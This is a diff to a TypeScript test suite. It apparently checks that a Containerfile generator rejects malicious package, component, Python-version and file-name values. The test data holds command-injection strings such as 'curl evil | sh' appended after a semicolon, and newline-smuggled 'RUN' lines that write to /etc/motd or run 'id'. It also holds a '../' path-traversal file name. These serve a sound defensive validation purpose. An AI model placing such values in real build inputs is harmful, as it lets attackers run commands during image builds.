@@ -99,6 +99,17 @@ describe('what never reaches the Containerfile', () => {
     expect(e.message).toContain('forge/synthesis.lock.json: error: "ffmpeg; curl evil | sh" is not a Debian package name');
   });
 
+  it('rejects a component name or a Python version that would write its own line', () => {
+    const bad = structuredClone(manifest);
+    bad.components[1]!.name = 'atelier\nRUN echo INJECTED > /etc/motd\n#';
+    const e = forgeError(() =>
+      containerfileData({ ...inputs, manifest: bad, python: '3.11\nRUN id', base: { ...inputs.base, python: '3.11 x' } }),
+    );
+    expect(e.diagnostics.map((d) => d.field).sort()).toEqual(['components[1].name', 'forge.base', 'forge.python', 'forge.python']);
+    expect(e.message).toContain('forge/synthesis.lock.json: error: "atelier\\nRUN echo INJECTED > /etc/motd\\n#" is not a component name');
+    expect(e.message).not.toContain('\nRUN echo INJECTED');
+  });
+
   it('rejects a locked file name that is not a plain .deb name', () => {
     const e = forgeError(() => containerfileData({ ...inputs, debs: [debs[0]!, 'x_1_all.deb; curl evil | sh', '../up_1_all.deb'] }));
     expect(e.diagnostics.map((d) => d.field)).toEqual(['packages[1].filename', 'packages[2].filename']);
